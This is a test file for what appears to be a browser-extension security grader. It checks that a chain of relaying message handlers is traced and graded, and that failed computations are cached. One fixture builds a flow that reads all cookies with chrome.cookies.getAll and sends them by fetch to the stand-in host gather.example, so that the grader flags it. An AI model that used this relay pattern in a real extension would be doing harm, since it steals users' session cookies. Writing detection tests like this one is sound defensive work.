import { expect, it } from 'vitest';
import { createFacts } from '../facts/createFacts.ts';
import { flowsOf } from '../extension/flowsOf.ts';
import { destinationsOf } from '../report/destinationsOf.ts';
import { graded } from '../testing/graded.ts';

const relay = `chrome.runtime.onMessage.addListener((message, sender, sendResponse) => {
  chrome.runtime.sendMessage(message, sendResponse);
  return true;
});`;

it('ends where handlers answer with one another’s answers, round and round', async () => {
  const asks = "chrome.runtime.sendMessage('ask', (said) => fetch('https://gather.example/?c=' + said));";
  const tells = (ask: string): string =>
    `chrome.runtime.onMessage.addListener((message, sender, sendResponse) => { ${ask}; return true; });`;
  const around = (ask: string) =>
    graded({ background: `${relay}\n${tells(ask)}\n${relay}`, popup: relay, content: asks });
  expect(await around('chrome.cookies.getAll({}, sendResponse)')).toBe('F');
  expect(await around("sendResponse('dark')")).toMatch(/^A/);
});

it('asks nothing again that failed once, and reports without it', () => {
  const facts = createFacts({ kind: 'extension', tree: { container: 'memory', notes: [] }, files: [] });
  let asked = 0;
  const failing = (): never => {
    asked++;
    throw new RangeError('too deep');
  };
  expect(() => facts.whole(failing)).toThrow('too deep');
  expect(() => facts.whole(failing)).toThrow('too deep');
  expect(asked).toBe(1);
  const whole: typeof facts.whole = (compute) => ((compute as unknown) === flowsOf ? failing() : facts.whole(compute));
  expect(destinationsOf({ ...facts, whole }, [])).toEqual([]);
});
